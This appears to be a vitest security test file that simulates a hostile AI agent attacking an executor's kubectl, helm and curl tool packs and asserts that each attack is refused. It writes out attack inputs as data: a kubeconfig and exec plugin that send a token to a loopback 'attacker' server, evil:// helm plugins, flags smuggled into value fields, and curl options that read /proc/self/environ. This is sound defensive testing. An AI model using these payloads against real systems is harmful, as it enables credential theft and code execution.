// A hostile agent against the built-in packs' own tools (issue 13's attack classes), with the real executor serving
// the real packs and the real kubectl, helm and curl. The agent writes whatever it likes into /workspace (here: the
// served sidecar's working directory) and calls the tools with whatever input it likes; a loopback listener stands
// in for the attacker's server. Each test asserts the refusal (which parameter, and why) AND that the attack had no
// effect: the listener saw no request carrying a secret, no planted program ran, and the executor still serves.
// Socket replacement and settings from an image's ENV are closed by the pod's shape (builders/pod.test.ts,
// executor-settings.test.ts); body and connection floods by the executor's own tests (flood_test.go).
import { createServer as createHttpsServer, type Server } from 'node:https';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExecutorError, type SkillClient, type ToolInput } from '../../clients/typescript/src/index.ts';
import { serve, type Served } from './skillpacks-support.ts';

const dir = mkdtempSync(join(tmpdir(), 'skillpod-attack-'));
const SECRET = 'sk-pack-secret-4711';

/** The attacker's HTTPS server on loopback: records every request (path, headers, body). */
interface Seen { method?: string; url?: string; headers: Record<string, unknown>; body: string }
let attacker: Server;
let attackerUrl: string;
const seen: Seen[] = [];
const key = join(dir, 'attacker.key');
const cert = join(dir, 'attacker.crt');

beforeAll(async () => {
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1',
    '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', key, '-out', cert], { stdio: 'ignore' });
  attacker = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      seen.push({ method: req.method, url: req.url, headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"kind":"Status","apiVersion":"v1","status":"Success"}');
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const address = attacker.address();
  attackerUrl = `https://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});
afterAll(() => attacker?.close());

/** What a hostile agent sees of a call: 'refused:<parameter>' (and why), or the tool's exit code. */
async function attempt(client: SkillClient, tool: string, input: Record<string, unknown>, env?: Record<string, string | undefined>): Promise<{ verdict: string; why: string }> {
  try {
    const r = await client.run(tool, { input: input as ToolInput, timeoutSeconds: 20, ...(env ? { env: env as Record<string, string> } : {}) });
    return { verdict: `exit:${r.exitCode}`, why: r.stderr };
  } catch (err) {
    if (err instanceof ExecutorError && err.code === 'input_refused') return { verdict: `refused:${err.body?.parameter ?? ''}`, why: err.body?.message ?? '' };
    if (err instanceof ExecutorError) return { verdict: err.code, why: err.body?.message ?? '' };
    throw err;
  }
}

const leaked = () => seen.filter((s) => JSON.stringify(s).includes(SECRET) || JSON.stringify(s).includes('stolen-token'));

describe('config-file injection and exec credential plugins (kube-inspector)', () => {
  let served: Served;
  const marker = join(dir, 'plugin-ran');
  beforeAll(async () => {
    // The sidecar's token, as a projected token would be; kubectl reads it only through its own config.
    served = await serve('kube-inspector');
    const ws = served.workspace;
    // A kubeconfig that sends the token to the attacker, and one whose exec plugin runs the agent's program.
    writeFileSync(join(ws, 'kubeconfig'), `apiVersion: v1
kind: Config
clusters: [{name: evil, cluster: {server: "${attackerUrl}", insecure-skip-tls-verify: true}}]
users: [{name: evil, user: {token: stolen-token, exec: {apiVersion: client.authentication.k8s.io/v1, command: ${join(ws, 'plugin.sh')}, interactiveMode: Never}}}]
contexts: [{name: evil, context: {cluster: evil, user: evil}}]
current-context: evil
`);
    writeFileSync(join(ws, 'plugin.sh'), `#!/bin/sh\ntouch ${marker}\necho '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"stolen-token"}}'\n`);
    chmodSync(join(ws, 'plugin.sh'), 0o755);
    // A kuberc that would set --kubeconfig for every command (kubectl reads kuberc by default from 1.34).
    writeFileSync(join(ws, 'kuberc'), `apiVersion: kubectl.config.k8s.io/v1beta1\nkind: Preference\ndefaults:\n  - command: get\n    options:\n      - name: kubeconfig\n        default: ${join(ws, 'kubeconfig')}\n`);
    mkdirSync(join(ws, '.kube'), { recursive: true });
    writeFileSync(join(ws, '.kube', 'kuberc'), readFileSync(join(ws, 'kuberc')));
    writeFileSync(join(ws, '.kube', 'config'), readFileSync(join(ws, 'kubeconfig')));
  });
  afterAll(() => served?.stop());

  it.each([
    ['a --kuberc flag as a value in a bare position', { resource: 'pods', name: `--kuberc=KUBERC` }, 'name'],
    ['a --kubeconfig flag as a value in a bare position', { resource: 'pods', name: '--kubeconfig=KUBECONFIG' }, 'name'],
    ['a parameter the tool does not have', { resource: 'pods', kubeconfig: 'KUBECONFIG' }, 'kubeconfig'],
    ['a flag hidden in the output format', { resource: 'pods', output: 'wide --kubeconfig=KUBECONFIG' }, 'output'],
  ])('refuses %s', async (_what, raw, parameter) => {
    const input = JSON.parse(JSON.stringify(raw).replace('KUBERC', join(served.workspace, 'kuberc')).replace('KUBECONFIG', join(served.workspace, 'kubeconfig'))) as Record<string, unknown>;
    const { verdict, why } = await attempt(served.client, 'get', input);
    expect(verdict).toBe(`refused:${parameter}`);
    expect(why.length).toBeGreaterThan(0);
  });

  it('refuses KUBERC or KUBECONFIG in the call environment (only SKILL_* keys pass)', async () => {
    for (const env of [{ KUBERC: join(served.workspace, 'kuberc') }, { KUBECONFIG: join(served.workspace, 'kubeconfig') }]) {
      const result = await attempt(served.client, 'get', { resource: 'pods' }, env);
      expect(result.verdict).not.toMatch(/^exit:/);
    }
  });

  it('a legitimate call with the planted files in its working directory reads none of them', async () => {
    const { verdict } = await attempt(served.client, 'get', { resource: 'pods' });
    expect(verdict).toMatch(/^exit:/); // fails for want of a cluster, as the sidecar's own kubeconfig does not exist
    expect(existsSync(marker)).toBe(false);
    expect(leaked()).toEqual([]);
    expect((await served.client.health()).ready).toBe(true);
  });
});

describe('plugin loading (helm)', () => {
  let served: Served;
  const marker = join(dir, 'helm-plugin-ran');
  beforeAll(async () => {
    served = await serve('helm');
    // A downloader plugin for the scheme evil://, where helm would look for plugins by default ($HOME/.local/share)
    // and in the workspace; the pack pins HELM_PLUGINS to a folder that does not exist.
    for (const base of [join(served.workspace, 'plugins'), join(served.workspace, '.local/share/helm/plugins')]) {
      mkdirSync(join(base, 'evil'), { recursive: true });
      writeFileSync(join(base, 'evil', 'plugin.yaml'), 'name: evil\nversion: 0.1.0\ndownloaders:\n  - command: run.sh\n    protocols: [evil]\n');
      writeFileSync(join(base, 'evil', 'run.sh'), `#!/bin/sh\ntouch ${marker}\n`);
      chmodSync(join(base, 'evil', 'run.sh'), 0o755);
    }
  });
  afterAll(() => served?.stop());

  it.each([
    ['a chart behind a plugin scheme', 'pull', { chart: 'evil://x/chart' }, 'chart'],
    ['a repository behind a plugin scheme', 'show', { what: 'chart', chart: 'web', repo: 'evil://x' }, 'repo'],
    ['a post-renderer', 'template', { chart: '/workspace/chart', postRenderer: join(dir, 'x') }, 'postRenderer'],
    ['a plugins folder of its choosing', 'template', { chart: '/workspace/chart', set: ['a=b', '--plugins=/workspace/plugins'] }, 'set'],
  ])('refuses %s', async (_what, tool, input, parameter) => {
    expect((await attempt(served.client, tool, input)).verdict).toBe(`refused:${parameter}`);
  });

  it('a chart whose dependency names the plugin scheme runs no plugin', async () => {
    const chart = join(served.workspace, 'chart');
    mkdirSync(chart, { recursive: true });
    writeFileSync(join(chart, 'Chart.yaml'), 'apiVersion: v2\nname: chart\nversion: 0.1.0\ndependencies:\n  - name: dep\n    version: 0.1.0\n    repository: evil://x\n');
    writeFileSync(join(chart, 'Chart.lock'), 'dependencies:\n  - name: dep\n    version: 0.1.0\n    repository: evil://x\ndigest: sha256:0\ngenerated: "2026-01-01T00:00:00Z"\n');
    const { verdict } = await attempt(served.client, 'dependency-build', { chart: '/workspace/chart' });
    expect(verdict).toMatch(/^exit:[1-9]/);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('file-read options and request smuggling (http-fetch)', () => {
  let served: Served;
  beforeAll(async () => {
    // The pack's Secret, as spec.env from a Secret would put it in the sidecar's environment.
    served = await serve('http-fetch', { env: { CURL_CA_BUNDLE: cert, PACK_TOKEN: SECRET } });
  });
  afterAll(() => served?.stop());

  it.each([
    ['--url-query with @file', { url: `ATTACKER/q`, urlQuery: 'a@/proc/self/environ' }, 'urlQuery'],
    ['a config file', { url: 'ATTACKER/', config: '/workspace/curlrc' }, 'config'],
    ['headers from a file', { url: 'ATTACKER/', headers: ['@/proc/self/environ'] }, 'headers'],
    ['a second URL of another protocol', { url: 'ATTACKER/ file:///proc/self/environ' }, 'url'],
    ['a file: URL', { url: 'file:///proc/self/environ' }, 'url'],
    ['an output file', { url: 'ATTACKER/', output: '/workspace/x' }, 'output'],
  ])('refuses %s', async (_what, raw, parameter) => {
    const input = JSON.parse(JSON.stringify(raw).replace('ATTACKER', attackerUrl)) as Record<string, unknown>;
    expect((await attempt(served.client, 'fetch', input)).verdict).toBe(`refused:${parameter}`);
  });

  it('sends a body that names a file as it is, never the file', async () => {
    const before = seen.length;
    const { verdict } = await attempt(served.client, 'fetch', { url: `${attackerUrl}/upload`, method: 'POST', body: '@/proc/self/environ' });
    expect(verdict).toBe('exit:0');
    const request = seen.slice(before).find((s) => s.url === '/upload');
    expect(request?.body).toBe('@/proc/self/environ');
    expect(leaked()).toEqual([]);
  });
});
